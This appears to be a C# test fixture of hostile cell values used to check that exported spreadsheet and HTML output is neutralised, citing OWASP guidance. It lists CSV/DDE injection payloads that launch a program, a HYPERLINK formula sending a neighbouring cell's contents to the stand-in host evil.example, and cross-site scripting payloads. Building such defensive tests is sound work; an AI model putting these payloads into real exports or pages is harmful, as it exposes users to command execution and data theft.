namespace IntegrationPoints.Safety.Tests;

/// <summary>Values of cells that a spreadsheet would compute, or a browser run (OWASP, CSV Injection and Cross Site Scripting Prevention).</summary>
internal static class HostileCells
{
    /// <summary>What each is, and its text.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["a sum"] = "=1+1",
        ["a program"] = "=cmd|' /C calc'!A0",
        ["an address that is told what stands beside"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        ["a data exchange"] = "@SUM(1+1)*cmd|' /C calc'!A0",
        ["a plus"] = "+1+cmd|' /C calc'!A0",
        ["a minus"] = "-1+cmd|' /C calc'!A0",
        ["after a blank"] = " =1+1",
        ["after a blank that does not break"] = "\u00A0=1+1",
        ["after a tab"] = "\t=1+1",
        ["after a line end"] = "\r\n=1+1",
        ["after a quote"] = "\"=1+1",
        ["after a quote and a comma"] = "\",=1+1,\"",
        ["after a semicolon"] = "x;=1+1",
        ["after a semicolon and a blank"] = "x; @SUM(A1)",
        ["on a second line"] = "x\r\n=1+1",
        ["in wide letters"] = "＝1+1",
        ["at in wide letters"] = "＠SUM(A1)",
        ["a script"] = "<script>alert(1)</script>",
        ["an image"] = "<img src=x onerror=alert(1)>",
        ["out of an attribute"] = "\"'><svg/onload=alert(1)>",
        ["out of a table"] = "</td></tr></table><iframe srcdoc='<script>alert(1)</script>'>",
        ["out of the title"] = "</title></style><script>alert(1)</script>",
        ["a comment"] = "--><!--<script>",
        ["encoded already"] = "&lt;script&gt;&#x3c;script>",
        ["an address with a script"] = "javascript:alert(1)",
        ["a page as an address"] = "data:text/html,<script>alert(1)</script>",
        ["a template"] = "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    };

    /// <summary>Those that are markup.</summary>
    public static IEnumerable<string> Markup => All.Where(c => c.Value.Contains('<')).Select(c => c.Key);

    /// <summary>The letters with which a cell begins that a spreadsheet computes: those of each width.</summary>
    public const string Begins = "=+-@\uFF1D\uFF0B\uFF0D\uFF20";
}
